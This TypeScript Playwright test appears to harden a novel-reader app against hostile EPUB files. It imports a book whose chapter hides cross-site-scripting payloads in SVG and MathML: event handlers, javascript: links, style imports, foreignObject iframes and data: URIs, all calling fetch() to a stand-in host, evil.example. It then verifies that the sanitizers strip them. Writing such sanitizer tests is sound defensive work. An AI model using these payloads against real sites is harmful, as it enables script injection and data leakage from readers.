import { randomBytes } from 'node:crypto'
import { mkdir, rename, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Browser } from '@playwright/test'
import { slugOf } from '../../../server/posts/slug.ts'
import { minimalEpub } from './hostile-epub.ts'
import type { AttackRow } from './report.ts'

/** The longest the attack waits for the book to be imported. */
const IMPORT_MS = 90_000
/** Where the hostile markup would send the reader: no request may go there. */
const OUTSIDE = 'evil.example'

/**
 * What a hostile book can hide in the drawings and formulas chapters now keep: handlers, javascript:
 * in SVG links, `<use>` and `<image>` of the outside, styles, foreignObject, MathML links and actions,
 * paint from the web.
 */
const hostileChapter = `
<p id="first">Drawings and formulas.</p>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('//${OUTSIDE}/onload')" width="50" height="50">
  <style>@import url(https://${OUTSIDE}/a.css); rect { fill: url(https://${OUTSIDE}/p.svg#g) }</style>
  <a xlink:href="javascript:fetch('//${OUTSIDE}/xlink')"><rect width="10" height="10" onclick="fetch('//${OUTSIDE}/click')"/></a>
  <a href=" JaVaScRiPt:fetch('//${OUTSIDE}/href')"><circle r="4"/></a>
  <use href="https://${OUTSIDE}/sprite.svg#x"/><use xlink:href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>
  <image href="https://${OUTSIDE}/track.png" width="1" height="1"/>
  <rect fill="url(https://${OUTSIDE}/paint.svg#g)" style="fill:url(https://${OUTSIDE}/style)" width="5" height="5"/>
  <foreignObject><img src="x" onerror="fetch('//${OUTSIDE}/foreign')"/><iframe src="https://${OUTSIDE}/"></iframe></foreignObject>
  <set attributeName="href" to="javascript:fetch('//${OUTSIDE}/set')"/>
  <script>fetch('//${OUTSIDE}/script')</script>
</svg>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:fetch('//${OUTSIDE}/mi')">x</mi>
  <maction actiontype="statusline"><mi>y</mi><mtext>z</mtext></maction>
  <semantics><mi>a</mi><annotation-xml encoding="text/html"><img src="x" onerror="fetch('//${OUTSIDE}/annotation')"/></annotation-xml></semantics>
</math>`

/** What in markup could run or fetch: scripts, styles, foreign objects, handlers, outside addresses. */
const dangerous = (html: string) =>
  [
    ...html.matchAll(
      /<(script|style|foreignObject|iframe|set|animate|maction|annotation)\b|\son[a-z]+\s*=|javascript:|xlink:href|evil\.example|data:/gi,
    ),
  ].map(([found]) => found.trim())

/**
 * Drops an EPUB whose chapter hides scripts in SVG and MathML into LIBRARY_DIR, then reads that
 * chapter twice: as the server draws it (its sanitizer, no script run) and in Chromium (the browser's
 * sanitizer, the app running). Held when neither keeps anything that runs or fetches, the drawing and
 * formula are still there, and the page asks nothing of the outside.
 */
export async function hostileDrawings(browser: Browser, base: string, library: string) {
  const title = `Hostile Drawings ${randomBytes(3).toString('hex')}`
  const slug = slugOf(title)
  await mkdir(join(library, 'novels'), { recursive: true })
  await writeFile(
    join(library, '.drawings.epub'),
    await minimalEpub(title, 'Drawings and formulas.', hostileChapter),
  )
  await rename(join(library, '.drawings.epub'), join(library, 'novels', `${slug}.epub`))
  let requests = 0
  const started = Date.now()
  while (Date.now() - started < IMPORT_MS) {
    requests++
    if ((await fetch(`${base}/vi/api/v1/posts/detail/novel/${slug}/`)).status === 200) break
    await new Promise((resolve) => setTimeout(resolve, 500))
  }
  const reader = `${base}/vi/novel/${slug}/1/`
  requests++
  const drawn = await (await fetch(reader)).text()
  // The chapter as markup (its copy in the page's data is JSON, quotes escaped).
  const chapterStart = drawn.indexOf('<p id="b-first">')
  const drawnChapter =
    chapterStart < 0 ? '' : drawn.slice(chapterStart, drawn.indexOf('</math>', chapterStart) + 7)

  const context = await browser.newContext({ locale: 'vi-VN', serviceWorkers: 'block' })
  try {
    const page = await context.newPage()
    const outside: string[] = []
    page.on('request', (request) => {
      requests++
      if (new URL(request.url()).hostname.endsWith(OUTSIDE)) outside.push(request.url())
    })
    await page.goto(reader)
    await page.locator('.chapter-text svg').first().waitFor({ timeout: 30_000 })
    const shown = (await page.locator('.chapter-text').innerHTML()) as string
    const kept = { svg: /<svg\b/.test(shown), math: /<math\b/.test(shown) }
    const found = [...new Set([...dangerous(drawnChapter).map((d) => `server: ${d}`), ...dangerous(shown)])]
    const held = drawnChapter !== '' && found.length === 0 && outside.length === 0 && kept.svg && kept.math
    return {
      requests,
      happened:
        `${drawnChapter ? 'drawn by the server' : 'NOT drawn by the server'}; kept ${found.length ? found.join(', ') : 'nothing that runs'}; ` +
        `${outside.length} request(s) outside; drawing ${kept.svg ? 'shown' : 'gone'}, formula ${kept.math ? 'shown' : 'gone'}`,
      result: held ? 'pass' : 'fail',
    } satisfies Omit<AttackRow, 'attack' | 'expected'>
  } finally {
    await context.close()
  }
}
